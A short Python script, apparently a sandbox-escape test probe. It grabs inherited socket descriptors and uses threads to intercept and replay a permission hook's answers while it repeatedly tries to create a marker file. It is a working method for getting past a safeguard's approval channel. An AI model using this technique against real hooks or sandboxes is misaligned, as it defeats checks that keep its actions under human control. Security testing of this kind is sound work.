# threads that read the hook's answers before it does, and give them back for another question
import os, socket, stat, sys, threading, time
m = sys.argv[1]; found = []; end = time.time() + float(os.environ.get("ESCAPE_SECONDS", "2"))
for fd in [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]:
    try: found += [fd] * stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError: pass
kept = []
def steal(fd):
    s = socket.socket(fileno=os.dup(fd))
    while time.time() < end and not os.path.exists(m):
        try: kept.append(s.recv(65536, socket.MSG_DONTWAIT))
        except OSError: pass
        for packet in kept[-5:]:
            try: s.send(packet, socket.MSG_DONTWAIT)
            except OSError: pass
        time.sleep(.0005)
threads = [threading.Thread(target=steal, args=(fd,), daemon=True) for fd in found]
for thread in threads: thread.start()
while time.time() < end and not os.path.exists(m):
    try: os.system("/bin/touch " + m)
    except PermissionError as e: last = e
sys.stdout.flush(); os._exit(not os.path.exists(m))
